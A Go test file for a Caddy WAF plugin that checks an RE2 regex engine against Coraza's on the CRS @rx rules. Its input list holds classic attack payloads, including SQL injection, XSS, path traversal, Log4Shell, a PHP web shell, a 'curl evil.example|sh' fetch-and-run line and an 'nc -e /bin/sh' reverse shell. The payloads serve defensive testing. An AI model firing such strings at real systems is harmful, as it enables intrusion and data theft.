package waf

import (
	"context"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/caddyserver/caddy/v2"
	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
)

// captureTx is the part of a transaction @rx uses: whether it captures,
// and what.
type captureTx struct {
	plugintypes.TransactionState
	capturing bool
	captured  [9]string
}

func (t *captureTx) Capturing() bool              { return t.capturing }
func (t *captureTx) CaptureField(i int, v string) { t.captured[i] = v }

// rxInputs are the values the engines are compared on: the attack and
// benign tables' payloads and more, each alone, and inside filler text
// (at its start, middle and end, on one line and over several lines, for
// the (?m) anchors), so that most are longer than re2MinLen.
func rxInputs() []string {
	payloads := []string{
		"1' OR '1'='1' --", "1 UNION SELECT username, password FROM users", "admin'--", "x' OR 1=1 --",
		"x' UNION SELECT password FROM users --", "1' UNION SELECT username, password FROM users--",
		"<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
		"javascript:alert(1)", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "/etc/shadow",
		"127.0.0.1; cat /etc/passwd", "$(curl http://evil.example/x.sh|sh)", "`id`", "| nc -e /bin/sh 10.0.0.1 4444",
		"${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://x}", "<?php system($_GET['c']); ?>", "php://filter/resource=index.php",
		"java.lang.Runtime.getRuntime().exec(\"id\")", "{{7*7}}", "${7*7}", "SLEEP(5)", "benchmark(10000000,md5(1))",
		"1;DROP TABLE users", "' AND 1=CONVERT(int,@@version)--", "1 AND extractvalue(1,concat(0x7e,version()))",
		"http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "\r\nSet-Cookie: a=b", "%0d%0aLocation: http://x",
		"O'Brien \"quoted words\" rock'n'roll", "Grüße aus Köln", "日本語のテキスト, émoji 🎉, naïve café",
		"jane.doe+test@example.com", "Please deliver after five.", "select the best option from the menu",
		"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyLTcifQ.c2lnbmF0dXJl", "Mozilla/5.0 (X11; Linux x86_64) gateway-test",
		"application/json", "name=Widget&qty=2", "<b>bold</b> and <i>italic</i>", "a = b + c; d < e > f",
	}
	filler := strings.Repeat("Please deliver after five. ", 12)
	lines := strings.Repeat("a line of text\n", 12)
	var in []string
	for _, p := range payloads {
		in = append(in, p, strings.ToLower(p), filler+p, p+filler, filler+p+filler, lines+p, p+"\n"+lines, lines+p+"\n"+lines)
	}
	// bytes that are not UTF-8, and Latin-1 letters, for the expressions
	// matched against bytes (and to check that RE2, handed a non-UTF-8
	// value with U+FFFD for each bad byte, reads what Go's regexp reads)
	for _, p := range []string{"$\xe9t\xe9(1)", "$_GET\xff('x')", "\xac\xed\x00\x05sr", "\xbcscript\xbealert(1)\xbc/script\xbe",
		"gopher\xff://x", "\xc9T\xc9 and caf\xe9", "\xc2\xb4 or \xe2\x80\x98 1=1 \xe2\x80\x99", "<?php \xff ?>", "\xff\xfe<script>"} {
		in = append(in, p, filler+p, p+filler, filler+p+filler, lines+p+"\n"+lines)
	}
	// bad bytes next to multi-byte runes, runs of them, a lone
	// continuation byte, a truncated sequence, and U+FFFD itself
	for _, p := range []string{"\xffunion select\xff", "caf\xc3\xa9\xff<script>", "\x80\x80 or 1=1", "1=1 \xe2\x80", "\xef\xbf\xbd\xff' or '1'='1", "\xc0\xaf..\xc0\xaf/etc/passwd"} {
		in = append(in, filler+p, p+filler, lines+p+"\n"+lines)
	}
	return append(in, filler, lines, strings.Repeat("x", 5000), strings.Repeat("\xff", 300))
}

// TestRE2MatchesGoRegexp: for every @rx expression of the CRS, on each
// input, the operator with RE2 matches exactly when Coraza's own does,
// and captures the same.
func TestRE2MatchesGoRegexp(t *testing.T) {
	tableOnly(t)
	var opts []plugintypes.OperatorOptions
	observeRX = func(o plugintypes.OperatorOptions) { opts = append(opts, o) }
	ctx, cancel := caddy.NewContext(caddy.Context{Context: context.Background()})
	defer cancel()
	w := &WAF{Responses: true}
	err := w.Provision(ctx)
	observeRX = nil
	if err != nil {
		t.Fatal(err)
	}
	inputs := rxInputs()
	withRE2, latin1, compared, matched, latin1Matched := 0, 0, 0, 0, 0
	for _, o := range opts {
		op, err := newRX(o)
		if err != nil {
			t.Fatal(err)
		}
		ours, ok := op.(*rx)
		if !ok || ours.re == nil { // Coraza's alone
			continue
		}
		withRE2++
		if ours.binary {
			latin1++
		}
		coraza := ours.coraza
		for _, v := range inputs {
			for _, capturing := range []bool{false, true} {
				a, b := &captureTx{capturing: capturing}, &captureTx{capturing: capturing}
				got, want := ours.Evaluate(a, v), coraza.Evaluate(b, v)
				compared++
				if got {
					matched++
					if ours.binary {
						latin1Matched++
					}
				}
				if !ours.binary && !utf8.ValidString(v) && len(v) >= re2MinLen {
					// RE2 read the bad bytes as the U+FFFD Go's regexp
					// reads there, and captures them so
					for i := range b.captured {
						b.captured[i] = asGoRegexpReads(b.captured[i])
					}
				}
				if got != want || a.captured != b.captured {
					t.Errorf("@rx %.80q on %.60q (capturing %v): RE2 %v %q, Coraza %v %q", o.Arguments, v, capturing, got, a.captured, want, b.captured)
				}
			}
		}
	}
	t.Logf("%d @rx expressions (%d with RE2, %d of them in Latin-1), %d inputs: %d evaluations compared, %d matches (%d in Latin-1)", len(opts), withRE2, latin1, len(inputs), compared, matched, latin1Matched)
	if latin1Matched == 0 {
		t.Error("no input matched an expression RE2 runs in Latin-1: they were not compared")
	}
	if withRE2 < 100 {
		t.Fatalf("only %d of the CRS's expressions run with RE2", withRE2)
	}
}
